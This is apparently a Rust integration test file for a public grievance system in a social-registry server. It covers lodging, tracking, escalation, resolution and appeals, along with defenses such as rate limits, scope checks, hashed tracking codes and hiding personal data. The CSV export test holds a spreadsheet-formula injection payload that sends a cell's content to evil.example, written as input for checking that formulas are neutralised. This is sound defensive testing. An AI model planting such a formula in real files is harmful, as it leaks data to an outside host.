//! Grievances (*reclamos*, issue 36 item 4) against the real server, on every backend: the
//! whole life of one lodged on the public page (tracked without an account, escalated when its
//! deadline passes — time is a parameter of `vamos grievances escalate --now` —, resolved,
//! appealed), and the attacks on it: an anonymous grievance about a registration, a tracking
//! page that would show personal data, a wrong code answered differently from a missing one,
//! guessing codes at speed, oversize fields, a description typed as a spreadsheet formula,
//! staff reading outside their scope, and a database copy that would give the codes away.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use serde_json::{json, Value};
use std::path::Path;

mod common;
use common::*;

/// A fresh database on `db` with the administrator, served.
fn served(db: &vamos_store::testing::TestDb, d: &Path) -> (Server, Who) {
    init_db(&db.url, d);
    let s = start(&db.url, d);
    let admin = login(&s, "admin", PW);
    (s, admin)
}

/// Creates account `name` with `role` (and `--territories` / `--institution` when given).
fn user(url: &str, d: &Path, name: &str, role: &str, extra: &[&str]) {
    let mut args = vec!["user", "create", "--db", url, name, "--role", role];
    args.extend_from_slice(extra);
    let o = vamos(&args, d, &[("VAMOS_PASSWORD", PW)]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

fn form_encode(pairs: &[(&str, &str)]) -> String {
    let enc = |s: &str| {
        s.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect::<String>()
    };
    pairs
        .iter()
        .map(|(k, v)| format!("{}={}", enc(k), enc(v)))
        .collect::<Vec<_>>()
        .join("&")
}

/// The public form's time token, aged past its 3-second minimum.
fn aged_token(s: &Server) -> String {
    let html = agent()
        .get(format!("{}/reclamos", s.base))
        .call()
        .unwrap()
        .into_body()
        .read_to_string()
        .unwrap();
    let token = html
        .split("name=\"token\" value=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .unwrap()
        .to_string();
    std::thread::sleep(std::time::Duration::from_millis(3_200));
    token
}

/// Posts the public form: the status and the page.
fn post_form(s: &Server, path: &str, pairs: &[(&str, &str)]) -> (u16, String) {
    let resp = agent()
        .post(format!("{}{path}", s.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .send(form_encode(pairs).as_bytes())
        .unwrap();
    let status = resp.status().as_u16();
    (status, resp.into_body().read_to_string().unwrap())
}

fn get_page(s: &Server, path: &str) -> (u16, String) {
    let resp = agent().get(format!("{}{path}", s.base)).call().unwrap();
    let status = resp.status().as_u16();
    (status, resp.into_body().read_to_string().unwrap())
}

/// The tracking code shown on the page after lodging.
fn shown_code(html: &str) -> String {
    html.split("<code id=\"codigo\">")
        .nth(1)
        .and_then(|r| r.split('<').next())
        .unwrap_or_else(|| panic!("no code on the page: {html}"))
        .to_string()
}

const PERSON: [(&str, &str); 4] = [
    ("cedula", "4.123.456"),
    ("fecha_nacimiento", "1990-05-04"),
    ("nombres", "Ana Graciela"),
    ("apellidos", "Benítez Zarza"),
];

/// Lodges through the API as `who`: the answer.
fn lodge_api(s: &Server, who: &Who, body: Value) -> (u16, Value) {
    let (st, v, _) = call(s, who, "post", "/api/grievances", Some(body));
    (st, v)
}

fn registration_body(district: &str, description: &str) -> Value {
    json!({
        "categoria": "registro_datos_incorrectos",
        "descripcion": description,
        "cedula": "4123456",
        "fecha_nacimiento": "04/05/1990",
        "nombres": "Ana Graciela",
        "apellidos": "Benítez Zarza",
        "contacto": "0981 555 123",
        "distrito": district,
    })
}

#[test]
fn a_grievance_lodged_on_the_public_page_is_tracked_escalates_is_resolved_and_appealed() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let token = aged_token(&s);
        let mut fields = vec![
            ("token", token.as_str()),
            ("categoria", "registro_no_figuro"),
            ("descripcion", "Nos encuestaron en marzo y no figuramos."),
            ("distrito", "1116"),
        ];
        fields.extend(PERSON);
        let (st, html) = post_form(&s, "/reclamos", &fields);
        assert_eq!(st, 200, "{}: {html}", db.label);
        let code = shown_code(&html);
        assert_eq!(code.len(), 24, "{code}");

        // Tracked without logging in, on the page and through the API.
        let (st, page) = get_page(&s, &format!("/reclamos/{code}"));
        assert_eq!(st, 200, "{page}");
        assert!(page.contains("Recibido"), "{page}");
        let nobody = Who::default();
        let track = |s: &Server| {
            let (st, v, _) = call(
                s,
                &nobody,
                "get",
                &format!("/api/grievances/track/{code}"),
                None,
            );
            assert_eq!(st, 200, "{v}");
            v
        };
        assert_eq!(track(&s)["state"], "recibido");

        // Long after its deadline nothing has moved; the escalation run passes that moment.
        let later = "2099-01-01T00:00:00Z";
        let o = vamos(
            &[
                "grievances",
                "escalate",
                "--db",
                db.url.as_str(),
                "--now",
                later,
                "--format",
                "json",
            ],
            d.path(),
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let escalated: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(
            escalated["escalated"].as_array().unwrap().len(),
            1,
            "{escalated}"
        );
        let t = track(&s);
        assert_eq!(t["state"], "escalado", "{t}");
        assert_eq!(t["level_label"], "coordinación", "{t}");
        // A second run at the same moment changes nothing: the new deadline is ahead.
        let o = vamos(
            &[
                "grievances",
                "escalate",
                "--db",
                db.url.as_str(),
                "--now",
                later,
                "--format",
                "json",
            ],
            d.path(),
            &[],
        );
        let again: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(again["escalated"], json!([]), "{again}");

        // Staff resolve it; the person reads the public answer with the code.
        let (st, list, _) = call(&s, &admin, "get", "/api/grievances?state=escalado", None);
        assert_eq!(st, 200, "{list}");
        let id = list["items"][0]["id"].as_i64().unwrap();
        let (st, v, _) = call(
            &s,
            &admin,
            "post",
            &format!("/api/grievances/{id}/resolve"),
            Some(
                json!({"outcome": "resuelto", "reason": "se incorporó la encuesta", "public_text": "Su hogar ya figura en el registro."}),
            ),
        );
        assert_eq!(st, 200, "{v}");
        let t = track(&s);
        assert_eq!(t["state"], "resuelto", "{t}");
        assert_eq!(t["resolution_text"], "Su hogar ya figura en el registro.");
        assert!(t["appeal_until"].is_string(), "{t}");

        // The person appeals once: reopened one level up, with a new deadline.
        let (st, v, _) = call(
            &s,
            &nobody,
            "post",
            &format!("/api/grievances/track/{code}/appeal"),
            Some(json!({"reason": "Falta mi hijo menor."})),
        );
        assert_eq!(st, 200, "{v}");
        assert_eq!(v["state"], "apelado", "{v}");
        assert_eq!(v["level_label"], "dirección de la UTGS", "{v}");
        let (st, v, _) = call(
            &s,
            &nobody,
            "post",
            &format!("/api/grievances/track/{code}/appeal"),
            Some(json!({"reason": "otra vez"})),
        );
        assert_eq!(st, 409, "{v}");
    }
}

/// A fresh database on `url` with the administrator and a synthetic survey of the pilot
/// districts imported, for grievances about registered people.
fn with_registry(url: &str, d: &Path) {
    init_db(url, d);
    synth_pilots(d, "40", "36");
    let o = vamos(
        &[
            "import",
            "fips",
            "--db",
            url,
            "datos",
            "--date",
            "2026-11-23",
        ],
        d,
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

/// A registered person of Villeta to lodge about: (cédula, birth date, given, family names,
/// household).
fn registered_person(url: &str) -> (String, String, String, String, i64) {
    let mut store = vamos_store::open(url).unwrap();
    let mut db = store.db();
    let r = vamos_store::testing::RawSql::query_opt(
        &mut db,
        "SELECT p.national_id, CAST(p.birth_date AS TEXT), p.given_names, p.family_names,
                p.household_id
         FROM persons p JOIN households h ON h.id = p.household_id
         WHERE h.district_code = 1116 AND p.national_id IS NOT NULL ORDER BY p.id LIMIT 1",
        &[],
    )
    .unwrap()
    .unwrap();
    (
        r.int(0).unwrap().to_string(),
        r.text(1),
        r.text(2),
        r.text(3),
        r.int(4).unwrap(),
    )
}

#[test]
fn a_grievance_resolution_creates_a_change_request_that_another_account_approves() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        with_registry(&db.url, d.path());
        for name in ["ana1", "ana2"] {
            user(&db.url, d.path(), name, "analista", &[]);
        }
        user(
            &db.url,
            d.path(),
            "lejos",
            "mesa",
            &["--territories", "1602"],
        );
        let s = start(&db.url, d.path());
        let (ana1, ana2) = (login(&s, "ana1", PW), login(&s, "ana2", PW));
        let lejos = login(&s, "lejos", PW);
        let (cedula, born, given, family, household) = registered_person(&db.url);

        // Lodged on the public page about the person's registration, then tracked.
        let token = aged_token(&s);
        let (st, html) = post_form(
            &s,
            "/reclamos",
            &[
                ("token", token.as_str()),
                ("categoria", "registro_datos_incorrectos"),
                (
                    "descripcion",
                    "La dirección de mi casa está mal en el registro.",
                ),
                ("distrito", "1116"),
                ("cedula", cedula.as_str()),
                ("fecha_nacimiento", born.as_str()),
                ("nombres", given.as_str()),
                ("apellidos", family.as_str()),
            ],
        );
        assert_eq!(st, 200, "{}: {html}", db.label);
        let code = shown_code(&html);
        let (st, list, _) = call(&s, &ana1, "get", "/api/grievances", None);
        assert_eq!(st, 200, "{list}");
        let id = list["items"][0]["id"].as_i64().unwrap();
        let change = json!({
            "tipo": "mudar_hogar",
            "unidades": [household],
            "valores": {"address": "Calle Corregida 45"},
            "efecto": "correccion",
            "motivo": "reclamo: dirección mal cargada",
        });
        let resolve = |who: &Who, outcome: &str| {
            call(
                &s,
                who,
                "post",
                &format!("/api/grievances/{id}/resolve"),
                Some(json!({
                    "outcome": outcome,
                    "reason": "dirección mal cargada en la encuesta",
                    "public_text": "Se pidió corregir la dirección de su hogar.",
                    "change_request": change,
                })),
            )
        };
        // A change goes only with a favourable answer; nothing is created otherwise.
        let (st, v, _) = resolve(&ana1, "no_corresponde");
        assert_eq!(st, 400, "{}: {v}", db.label);
        let (_, none, _) = call(&s, &ana1, "get", "/api/change-requests", None);
        assert_eq!(none["items"], json!([]), "{}: {none}", db.label);
        // Staff of another district neither see the grievance nor reach it through a request.
        let (st, v, _) = resolve(&lejos, "resuelto");
        assert_eq!(st, 404, "{}: {v}", db.label);

        let (st, v, _) = resolve(&ana1, "resuelto");
        assert_eq!(st, 200, "{}: {v}", db.label);
        assert_eq!(v["state"], "resuelto", "{v}");
        let change_id = v["change_request_id"].as_i64().unwrap();
        let (st, v, _) = call(
            &s,
            &ana1,
            "post",
            &format!("/api/change-requests/{change_id}/approve"),
            None,
        );
        assert_eq!(st, 403, "{}: the resolver is the requester: {v}", db.label);
        let (st, v, _) = call(
            &s,
            &ana2,
            "post",
            &format!("/api/change-requests/{change_id}/approve"),
            None,
        );
        assert_eq!(st, 200, "{}: {v}", db.label);
        assert_eq!(v["estado"], "aplicada", "{v}");
        assert_eq!(v["reclamo"], id, "{v}");
        let (st, h, _) = call(
            &s,
            &ana2,
            "get",
            &format!("/api/households/{household}"),
            None,
        );
        assert_eq!(st, 200, "{h}");
        assert!(
            h.to_string().contains("Calle Corregida 45"),
            "{}: {h}",
            db.label
        );

        // The person follows it with the code: the request and its approval, nothing personal.
        let (st, t, _) = call(
            &s,
            &Who::default(),
            "get",
            &format!("/api/grievances/track/{code}"),
            None,
        );
        assert_eq!(st, 200, "{t}");
        let steps = t["steps"].to_string();
        assert!(
            steps.contains("Se pidió un cambio en el registro"),
            "{steps}"
        );
        assert!(
            steps.contains("El cambio en el registro fue aprobado y aplicado"),
            "{steps}"
        );
        for secret in [&cedula, &given, &family, &"Calle Corregida".to_string()] {
            assert!(
                !t.to_string().contains(secret.as_str()),
                "{}: {t}",
                db.label
            );
        }
    }
}

#[test]
fn a_change_request_cannot_claim_a_grievance_out_of_reach_or_already_answered() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        with_registry(&db.url, d.path());
        user(&db.url, d.path(), "ana1", "analista", &[]);
        user(
            &db.url,
            d.path(),
            "ori",
            "orientador",
            &["--territories", "1116"],
        );
        user(
            &db.url,
            d.path(),
            "lejos",
            "mesa",
            &["--territories", "1602"],
        );
        let s = start(&db.url, d.path());
        let (ana1, ori, lejos) = (
            login(&s, "ana1", PW),
            login(&s, "ori", PW),
            login(&s, "lejos", PW),
        );
        let (_, _, _, _, household) = registered_person(&db.url);
        let (st, v) = lodge_api(
            &s,
            &ana1,
            registration_body("1116", "dirección mal cargada"),
        );
        assert_eq!(st, 201, "{v}");
        let id = v["id"].as_i64().unwrap();
        let request = |who: &Who, grievance: i64, address: &str| {
            // Another household each time: only the grievance can make two requests collide.
            let unit = household + i64::from(address.ends_with('2'));
            let body = json!({
                "tipo": "mudar_hogar",
                "unidades": [unit],
                "valores": {"address": address},
                "efecto": "correccion",
                "motivo": "por reclamo",
                "reclamo": grievance,
            });
            call_multipart(
                &s,
                who,
                "/api/change-requests",
                &[("solicitud", &body.to_string())],
            )
        };
        // A number never given and one of another district answer alike.
        let (st_missing, missing) = request(&ana1, id + 1000, "Calle 1");
        assert_eq!(st_missing, 404, "{}: {missing}", db.label);
        let (st, v) = request(&lejos, id, "Calle 1");
        assert_eq!(st, 404, "{}: {v}", db.label);
        assert_eq!(
            v["error"]["message"]
                .as_str()
                .map(|m| m.replace(&id.to_string(), "N")),
            missing["error"]["message"]
                .as_str()
                .map(|m| m.replace(&(id + 1000).to_string(), "N")),
            "{}: out of reach must read like missing",
            db.label
        );
        // An orientador may request changes but does not handle grievances.
        let (st, v) = request(&ori, id, "Calle 1");
        assert_eq!(st, 403, "{}: {v}", db.label);
        let (st, v) = request(&ana1, id, "Calle 1");
        assert_eq!(st, 201, "{}: {v}", db.label);
        let (st, v) = request(&ana1, id, "Calle 2");
        assert_eq!(st, 409, "{}: one request per grievance: {v}", db.label);
        assert!(
            v.to_string().contains("ya tiene la solicitud de cambio"),
            "{}: {v}",
            db.label
        );
    }
}

#[test]
fn an_anonymous_grievance_about_a_registration_is_refused() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let token = aged_token(&s);
        let (st, html) = post_form(
            &s,
            "/reclamos",
            &[
                ("token", token.as_str()),
                ("categoria", "registro_datos_incorrectos"),
                ("descripcion", "Mi fecha de nacimiento está mal."),
            ],
        );
        assert_eq!(st, 422, "{}", db.label);
        assert!(html.contains("necesita la cédula"), "{html}");
        let (st, v) = lodge_api(
            &s,
            &admin,
            json!({"categoria": "estado_proteccion", "descripcion": "No estoy de acuerdo"}),
        );
        assert_eq!(st, 400, "{v}");
        assert!(
            v["error"]["message"].as_str().unwrap().contains("cedula:"),
            "{v}"
        );
        // A complaint about a service may be anonymous.
        let (st, v) = lodge_api(
            &s,
            &admin,
            json!({"categoria": "servicio_mala_atencion", "descripcion": "Me trataron mal"}),
        );
        assert_eq!(st, 201, "{v}");
    }
}

#[test]
fn tracking_a_grievance_shows_no_personal_data() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let (st, v) = lodge_api(
            &s,
            &admin,
            registration_body("1116", "Mi apellido está mal escrito"),
        );
        assert_eq!(st, 201, "{v}");
        let code = v["code"].as_str().unwrap();
        let (_, json, _) = call(
            &s,
            &Who::default(),
            "get",
            &format!("/api/grievances/track/{code}"),
            None,
        );
        let (_, html) = get_page(&s, &format!("/reclamos/{code}"));
        for shown in [json.to_string(), html] {
            for secret in [
                "4123456",
                "4.123.456",
                "Graciela",
                "Zarza",
                "0981",
                "apellido está mal",
                "1990",
            ] {
                assert!(
                    !shown.contains(secret),
                    "{} shows {secret}: {shown}",
                    db.label
                );
            }
        }
        // Staff who may read the registry see who it is.
        let id = v["id"].as_i64().unwrap();
        let (_, detail, _) = call(&s, &admin, "get", &format!("/api/grievances/{id}"), None);
        assert_eq!(detail["person"]["national_id"], 4_123_456, "{detail}");
    }
}

#[test]
fn a_wrong_tracking_code_is_answered_like_a_missing_one() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let (_, v) = lodge_api(
            &s,
            &admin,
            json!({"categoria": "sistema", "descripcion": "La página no carga"}),
        );
        let real = v["code"].as_str().unwrap().to_string();
        // One character changed: well formed, but nobody's.
        let last = if real.ends_with('0') { "1" } else { "0" };
        let wrong = format!("{}{last}", &real[..real.len() - 1]);
        let nobody = Who::default();
        let answers: Vec<(u16, Value)> = [wrong.as_str(), "ABCD", "not-a-code-at-all"]
            .iter()
            .map(|c| {
                let (st, v, _) = call(
                    &s,
                    &nobody,
                    "get",
                    &format!("/api/grievances/track/{c}"),
                    None,
                );
                (st, v)
            })
            .collect();
        for a in &answers {
            assert_eq!(a, &answers[0], "{}", db.label);
        }
        assert_eq!(answers[0].0, 404);
        let (st, _, _) = call(
            &s,
            &nobody,
            "get",
            &format!("/api/grievances/track/{real}"),
            None,
        );
        assert_eq!(st, 200);
    }
}

#[test]
fn tracking_look_ups_are_rate_limited_per_client() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, _) = served(&db, d.path());
        let nobody = Who::default();
        let statuses: Vec<u16> = (0..31)
            .map(|i| {
                let code = format!("{i:020}");
                call(
                    &s,
                    &nobody,
                    "get",
                    &format!("/api/grievances/track/{code}"),
                    None,
                )
                .0
            })
            .collect();
        assert!(statuses[..30].iter().all(|&x| x == 404), "{statuses:?}");
        assert_eq!(statuses[30], 429, "{}", db.label);
        // The public page shares the quota.
        let (st, _) = get_page(&s, "/reclamos/00000000000000000000");
        assert_eq!(st, 429);
    }
}

#[test]
fn oversize_grievance_fields_are_refused_each_with_a_spanish_reason() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let mut body = registration_body("1116", &"x".repeat(2_001));
        body["nombres"] = json!("ñ".repeat(101));
        body["contacto"] = json!("9".repeat(10_000));
        let (st, v) = lodge_api(&s, &admin, body);
        assert_eq!(st, 400, "{}: {v}", db.label);
        let m = v["error"]["message"].as_str().unwrap();
        for want in [
            "descripcion: texto demasiado largo: 2001 caracteres; un texto libre admite a lo sumo 2000",
            "nombres: texto demasiado largo: 101 caracteres; un nombre admite a lo sumo 100",
            "contacto: texto demasiado largo: 10000 caracteres",
        ] {
            assert!(m.contains(want), "{want}: {m}");
        }
        // The public form says it field by field too.
        let token = aged_token(&s);
        let long = "x".repeat(2_001);
        let (st, html) = post_form(
            &s,
            "/reclamos",
            &[
                ("token", token.as_str()),
                ("categoria", "sistema"),
                ("descripcion", long.as_str()),
            ],
        );
        assert_eq!(st, 422);
        assert!(
            html.contains("texto demasiado largo: 2001 caracteres"),
            "{html}"
        );
    }
}

#[test]
fn the_grievance_csv_export_neutralises_formulas() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;
        let (st, v) = lodge_api(&s, &admin, registration_body("1116", formula));
        assert_eq!(st, 201, "{v}");
        let resp = agent()
            .get(format!("{}/api/grievances?format=csv", s.base))
            .header(
                "cookie",
                format!("vamos_sesion={}", admin.cookie.clone().unwrap()),
            )
            .call()
            .unwrap();
        assert_eq!(resp.status().as_u16(), 200);
        let csv = resp.into_body().read_to_string().unwrap();
        assert!(csv.contains(r#"'=HYPERLINK("#), "{}: {csv}", db.label);
        assert!(
            !csv.contains(r#",=HYPERLINK"#) && !csv.contains(r#","=HYPERLINK"#),
            "{csv}"
        );
        assert!(csv.contains("4123456"), "{csv}");
    }
}

#[test]
fn a_grievance_outside_the_staff_scope_is_answered_as_not_found() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        user(
            &db.url,
            d.path(),
            "mesa_villeta",
            "mesa",
            &["--territories", "1116"],
        );
        let (_, v) = lodge_api(&s, &admin, registration_body("1502", "En Caaguazú"));
        let outside = v["id"].as_i64().unwrap();
        let (_, v) = lodge_api(&s, &admin, registration_body("1116", "En Villeta"));
        let inside = v["id"].as_i64().unwrap();
        let mesa = login(&s, "mesa_villeta", PW);
        let (st, out, _) = call(
            &s,
            &mesa,
            "get",
            &format!("/api/grievances/{outside}"),
            None,
        );
        let (st2, never, _) = call(&s, &mesa, "get", "/api/grievances/999999", None);
        assert_eq!((st, st2), (404, 404), "{}", db.label);
        assert_eq!(
            out["error"]["message"]
                .as_str()
                .unwrap()
                .replace(&outside.to_string(), "N"),
            never["error"]["message"]
                .as_str()
                .unwrap()
                .replace("999999", "N")
        );
        let (st, _, _) = call(
            &s,
            &mesa,
            "post",
            &format!("/api/grievances/{outside}/comment"),
            Some(json!({"text": "hola"})),
        );
        assert_eq!(st, 404);
        let (_, list, _) = call(&s, &mesa, "get", "/api/grievances", None);
        let ids: Vec<i64> = list["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|x| x["id"].as_i64().unwrap())
            .collect();
        assert_eq!(ids, vec![inside]);
        // An orientador lodges but does not handle.
        user(
            &db.url,
            d.path(),
            "orienta",
            "orientador",
            &["--territories", "1116"],
        );
        let o = login(&s, "orienta", PW);
        let (st, _) = lodge_api(&s, &o, registration_body("1116", "En nombre de Ana"));
        assert_eq!(st, 201);
        let (st, _, _) = call(&s, &o, "get", "/api/grievances", None);
        assert_eq!(st, 403);
    }
}

#[test]
fn the_tracking_code_is_stored_only_as_a_hash() {
    use vamos_store::testing::RawSql;
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let (s, admin) = served(&db, d.path());
        let (_, v) = lodge_api(
            &s,
            &admin,
            json!({"categoria": "sistema", "descripcion": "Lento"}),
        );
        let code = v["code"].as_str().unwrap().replace('-', "");
        let mut store = db.open();
        let rows = store.db().query("SELECT * FROM grievances", &[]).unwrap();
        assert_eq!(rows.len(), 1);
        let row = serde_json::to_string(&rows[0].object()).unwrap();
        assert!(!row.contains(&code), "{}: {row}", db.label);
        let hash = rows[0].object()["code_hash"].as_str().unwrap().to_string();
        assert_eq!(hash.len(), 64, "{hash}");
        let events = store
            .db()
            .query("SELECT * FROM grievance_events", &[])
            .unwrap();
        for e in &events {
            assert!(!serde_json::to_string(&e.object()).unwrap().contains(&code));
        }
    }
}
